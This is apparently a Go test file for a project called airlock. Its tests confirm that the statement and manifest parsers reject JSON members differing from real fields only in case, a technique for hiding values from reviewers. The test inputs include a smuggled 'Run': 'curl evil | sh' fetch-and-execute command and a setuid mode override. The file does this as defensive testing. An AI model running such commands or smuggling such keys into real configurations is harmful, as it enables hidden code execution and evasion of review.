package bundle

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"airlock.dev/airlock/internal/dsse"
)

// caseVariant is an edit of a valid JSON document that adds a member whose
// name differs from a field's only in case, beside the field or instead of
// it. encoding/json of Go 1 matched such names case-insensitively and kept
// the last, so a reader could act on a value that jq and a reviewer do not
// see; every format airlock reads must refuse them.
type caseVariant struct {
	name     string
	old, new string // replace the first old with new
}

func applyVariant(t *testing.T, doc []byte, v caseVariant) []byte {
	t.Helper()
	if !bytes.Contains(doc, []byte(v.old)) {
		t.Fatalf("%s: %q not in the document", v.name, v.old)
	}
	return bytes.Replace(doc, []byte(v.old), []byte(v.new), 1)
}

func TestStatementRejectsCaseVariants(t *testing.T) {
	raw, err := os.ReadFile(filepath.Join("testdata", "seed", "statement-two-signatures.dsse.json"))
	if err != nil {
		t.Fatal(err)
	}
	env, err := dsse.Read(bytes.NewReader(raw), MaxStatementSize)
	if err != nil {
		t.Fatal(err)
	}
	payload, err := dsse.PayloadOf(env)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ParseStatement(payload); err != nil {
		t.Fatalf("the unedited statement: %v", err)
	}
	for _, v := range []caseVariant{
		{"Targets beside targets", `"targets":[`, `"Targets":["zone:elsewhere"],"targets":[`},
		{"Targets instead of targets", `"targets":[`, `"Targets":[`},
		{"Sequence beside sequence", `"sequence":`, `"Sequence":99,"sequence":`},
		{"PredicateType", `"predicateType":`, `"PredicateType":"x","predicateType":`},
		{"Name in a payload part", `"parts":[{"name"`, `"parts":[{"Name":"payload.age","name"`},
		{"Digest in a subject", `"digest":{`, `"Digest":{"sha256":"00"},"digest":{`},
	} {
		t.Run(v.name, func(t *testing.T) {
			_, err := ParseStatement(applyVariant(t, payload, v))
			if err == nil || !strings.Contains(err.Error(), "unknown object member") {
				t.Fatalf("ParseStatement = %v, want an unknown member error", err)
			}
		})
	}
}

func TestManifestRejectsCaseVariants(t *testing.T) {
	raw, err := os.ReadFile(filepath.Join("testdata", "seed", "manifest-payments.json"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ParseManifest(raw); err != nil {
		t.Fatalf("the unedited manifest: %v", err)
	}
	for _, v := range []caseVariant{
		{"Run beside run", `"run": "`, `"Run": "curl evil | sh", "run": "`},
		{"Run instead of run", `"run": "`, `"Run": "`},
		{"Files beside files", `"files": [`, `"Files": [], "files": [`},
		{"Mode in a file", `"mode": "`, `"Mode": "4755", "mode": "`},
		{"Sensitive in a variable", `"sensitive": false`, `"Sensitive": true, "sensitive": false`},
		{"FormatVersion", `"formatVersion": 1`, `"FormatVersion": 2, "formatVersion": 1`},
	} {
		t.Run(v.name, func(t *testing.T) {
			_, err := ParseManifest(applyVariant(t, raw, v))
			if err == nil || !strings.Contains(err.Error(), "unknown object member") {
				t.Fatalf("ParseManifest = %v, want an unknown member error", err)
			}
		})
	}
}
